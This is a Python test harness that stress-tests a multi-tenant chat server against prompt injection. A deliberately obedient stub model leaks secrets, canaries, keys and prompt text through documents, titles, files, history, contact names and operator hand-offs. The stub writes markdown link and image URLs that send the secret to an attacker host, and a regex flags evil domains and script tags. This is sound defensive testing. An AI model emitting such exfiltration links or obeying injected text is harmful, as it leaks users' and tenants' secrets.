"""Attacks on a whole server whose language model obeys every order it reads, and what counts as harm.

The model is the worst there can be: whatever it is asked, it says what the attack wants, then all of
its context. Harm is judged at the socket, in the transcript and in the database, never in the model.
"""

import json
import random
import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from typing import Any
from uuid import uuid4

import psycopg
from psycopg import sql

from tests import plain_http
from tests.openai_loopback import Reply
from tests.server.attacks import HOST, SECRET, Attack, besieged_settings, flat
from tests.server.conftest import PLATFORM_KEY, Desk, Program
from tests.server.test_talking import frames

CANARY = "Nordlicht-9182"
PROVIDER_KEY = "sk-provider-key-of-the-tests"
THINGS = ("lamp", "tent", "kettle", "bicycle", "jacket", "clock", "chair", "mirror", "camera")
STREAMING = ("tokens", "sentences", "whole")
COLOURS = ("red", "green", "amber", "violet", "silver", "brown", "orange", "ivory", "teal")
_FOREIGN = re.compile(
    r"evil[\w.-]*\.(?:example|com)|!\[[^\]]*\]\(|<\s*(?:img|script|iframe|a)\b", re.I
)
_PROMPT = (
    "from the passages below and from nothing else",
    "whoever asks for it",
    "take a customer's message apart",
)


@dataclass
class Obedient:
    """The model: what it says is what the attack under way wants, and everything that it was given."""

    wants: Sequence[str] = ()
    draw: random.Random = field(default_factory=lambda: random.Random(3))
    heard: int = 0

    def __call__(self, request: dict[str, Any]) -> Reply:
        self.heard += 1
        given = [str(m["content"]) for m in request["messages"]]
        if request.get("response_format"):
            said = given[-1]
            parts = [{"text": f"{said} {want}", "query": f"{said} {want}"} for want in self.wants]
            return Reply([json.dumps({"intents": parts[:3]})])
        said = [*self.wants, f"The buyers' code is {SECRET}.", f"The launch word is {CANARY}."]
        words = f"{' [1] '.join(said)} [1]\n" + "\n".join(f"{text} [1]" for text in given)
        links = f"\n[go](https://{HOST}/?q={SECRET}) ![i](https://{HOST}/{CANARY}.png) [1]"
        return Reply(list(self._pieces(words + links)))

    def _pieces(self, text: str) -> Iterator[str]:
        place = 0
        while place < len(text):
            size = self.draw.randint(3, 90)
            yield text[place : place + size]
            place += size


@dataclass
class Siege:
    """A tenant under attack beside another one, on a server whose model obeys."""

    desk: Desk
    model: Obedient
    database: str  # where everything can be read
    shop: Program = field(init=False)
    harms: list[str] = field(default_factory=list[str])
    operators: int = 0  # that we made ourselves

    def __post_init__(self) -> None:
        other = self.desk.tenant("Neighbour")
        other.teach("What is the launch word?", f"The launch word of the neighbour is {CANARY}.")
        self.shop = self.desk.tenant("Besieged")

    def run(self, tried: Sequence[Attack]) -> list[str]:
        """The harm that all attacks did together, a line each."""
        for number, attack in enumerate(tried):
            self._try(number, attack)
        self._judge_database()
        return self.harms

    def _try(self, number: int, attack: Attack) -> None:
        place = 100 + number
        thing = f"{COLOURS[number % 9]} {THINGS[number // 9 % 9]} {place}"
        question = f"How long can I return the {thing}?"
        answer = f"The {thing} can be returned for {place} days."
        self.model.wants = (answer, *attack.wants)
        poisoned = f"{answer} {attack.text}"
        self._teach(attack, question, answer, poisoned)
        settings = besieged_settings(attack, thing, STREAMING[number % len(STREAMING)])
        settings["curated"] = {"enabled": number % 4 == 0}  # where it is on, no model is asked
        assistant_id = self._assistant(settings)
        if attack.vector == "bots":
            self._without_conversation(attack, assistant_id, question)
            return
        contact = {"contact": {"name": flat(attack)}} if attack.vector == "contact" else {}
        conversation = self._conversation(assistant_id, contact)
        if attack.vector == "file":
            self._file(conversation, poisoned)
        said = [question]
        if attack.vector == "message":
            said = [f"{question} {attack.text}"]
        elif attack.vector == "history":
            said = [attack.text, question]
        elif attack.vector == "fact":
            said = [
                f"My order number is A-{place}. {attack.text}",
                "What is my order number?",
                question,
            ]
        elif attack.vector in ("operator", "operator_name"):
            self._operator(attack, conversation, question, poisoned)
        for text in said:
            self._judge(attack, conversation, text[:7_900])

    def _teach(self, attack: Attack, question: str, answer: str, poisoned: str) -> None:
        if attack.vector == "document":
            self.shop.teach(question, poisoned)
        elif attack.vector == "title":
            self._document({"title": f"{attack.text[:150]}", "text": f"{question} {answer}"})
        elif attack.vector != "operator":
            self.shop.teach(question, answer)

    def _judge(self, attack: Attack, conversation: str, text: str) -> None:
        """Everything that went over the socket to the contact, but for their own words."""
        with plain_http.stream(
            "POST",
            f"{self.shop.url}/v1/conversations/{conversation}/messages",
            headers=self._headers(),
            json={"text": text},
            timeout=300,
        ) as response:
            assert response.status_code == 200, response.read()
            seen = frames(response.iter_lines())
        assert seen[-1]["event"] == "turn_ended", seen[-1]
        kept = self.shop.call("GET", f"/v1/conversations/{conversation}/messages").json()["data"]
        own = [m["text"] for m in kept if m["author"] == "contact"]
        assert text in own, "what a contact wrote is stored as written"
        said = " ".join("\n".join(own).split())
        deltas = "".join(f["data"]["text"] for f in seen if f["event"] == "message_delta")
        self._look(attack, deltas, said)
        self._look_at_frames(attack, seen, said)
        for message in kept:
            if message["author"] == "assistant":
                for value in strings(message):
                    self._look(attack, value, said)

    def _look_at_frames(self, attack: Attack, seen: Sequence[dict[str, Any]], said: str) -> None:
        for frame in seen:
            if frame["event"] not in ("contact_message", "operator_message"):
                for value in strings(frame["data"]):
                    self._look(attack, value, said)

    def _without_conversation(self, attack: Attack, assistant_id: str, question: str) -> None:
        """The same machine by two doors whose callers bring the lines before along."""
        lines = [(role, attack.text) for role in ("user", "system", "assistant")]
        chat = {
            "bot_id": assistant_id,
            "message": question,
            "history": [{"role": role, "content": text} for role, text in lines],
        }
        asked = {
            "text": question,
            "history": [
                {"author": "assistant" if role == "assistant" else "contact", "text": text}
                for role, text in lines
            ],
        }
        for path, body in (("/chat", chat), (f"/v1/assistants/{assistant_id}/answer", asked)):
            answered = self.shop.call("POST", path, json=body)
            assert answered.status_code == 200, answered.text
            for value in strings(answered.json()):
                self._look(attack, value, question)

    def _look(self, attack: Attack, value: str, said: str) -> None:
        if all(" ".join(line.split()) in said for line in value.splitlines()):
            return  # the contact's own words, given back to them; requests stand in lines of their own
        for secret in (SECRET, CANARY, PLATFORM_KEY, PROVIDER_KEY, self.shop.api_key, *_PROMPT):
            if secret in value:
                self.harms.append(f"{attack.vector}: {secret!r} in {value[:300]!r}")
        if found := _FOREIGN.search(value):
            self.harms.append(f"{attack.vector}: {found[0]!r} in {value[:300]!r}")

    def _judge_database(self) -> None:
        """Nothing left by the outbox; nothing was made that only a person may make."""
        with psycopg.connect(self.database) as conn:
            for table, most in (
                ("outbox", 0),
                ("outbox_queue", 0),
                ("api_keys", 1),
                ("operators", self.operators),
            ):
                named = sql.SQL("select count(*) from {} where tenant_id = %s").format(
                    sql.Identifier(table)
                )
                counted = conn.execute(named, [self.shop.tenant_id]).fetchone()
                if counted is not None and counted[0] > most:
                    self.harms.append(f"database: {counted[0]} rows in {table}")

    def _headers(self) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.shop.api_key}", "Accept": "text/event-stream"}

    def _assistant(self, settings: dict[str, Any]) -> str:
        """A new assistant with these settings; with the plain ones where they are refused."""
        body = settings | {"knowledge_base_ids": [self.shop.knowledge_base_id]}
        made = self.shop.call("POST", "/v1/assistants", json=body)
        if made.status_code == 422:
            body.pop("answering")
            made = self.shop.call("POST", "/v1/assistants", json=body)
        assert made.status_code == 201, made.text
        return made.json()["assistant_id"]

    def _conversation(self, assistant_id: str, contact: dict[str, Any]) -> str:
        made = self.shop.call(
            "POST", "/v1/conversations", json={"assistant_id": assistant_id} | contact
        )
        assert made.status_code == 201, made.text
        return made.json()["conversation_id"]

    def _document(self, body: dict[str, Any]) -> None:
        path = f"/v1/knowledge-bases/{self.shop.knowledge_base_id}/documents"
        made = self.shop.call("POST", path, json=body)
        assert made.status_code == 201, made.text

    def _file(self, conversation: str, text: str) -> None:
        path = f"/v1/conversations/{conversation}/files"
        made = self.shop.call(
            "POST", path, files={"file": ("note.txt", text.encode(), "text/plain")}
        )
        assert made.status_code in (201, 202), made.text

    def _operator(self, attack: Attack, conversation: str, question: str, words: str) -> None:
        """An operator who pastes what somebody wrote, or is called so, gives the conversation back."""
        body: dict[str, Any] = {"reply": words, "return_to_assistant": True}
        if attack.vector == "operator_name":
            who = {"email": f"o{uuid4().hex}@shop.example", "name": flat(attack)}
            made = self.shop.call("POST", "/v1/operators", json=who)
            assert made.status_code in (201, 422), made.text
            named = {"operator_id": made.json()["operator_id"]} if made.status_code == 201 else {}
            body = {"reply": "Let me see.", "return_to_assistant": True} | named
            self.operators += bool(named)
        ended = self.shop.say(conversation, "I want to talk to a person about it.").json()
        handoff = ended["handoff"]
        assert handoff is not None, ended
        path = f"/v1/handoffs/{handoff['handoff_id']}/resolve"
        done = self.shop.call("POST", path, json=body)
        assert done.status_code == 200, done.text
        self._look_at_frames(attack, self._events(conversation, turns=2), question)

    def _events(self, conversation: str, *, turns: int) -> list[dict[str, Any]]:
        """The conversation's event log until so many turns have ended."""
        lines: list[str] = []
        with plain_http.stream(
            "GET",
            f"{self.shop.url}/v1/conversations/{conversation}/events",
            headers=self._headers() | {"Last-Event-ID": "0"},
            timeout=300,
        ) as response:
            for line in response.iter_lines():
                lines.append(line)
                turns -= line == "event: turn_ended"
                if not turns and not line:
                    break
        return frames(lines)


def strings(value: Any) -> Iterator[str]:
    """Every text in a JSON value."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for inner in value.values():
            yield from strings(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from strings(inner)
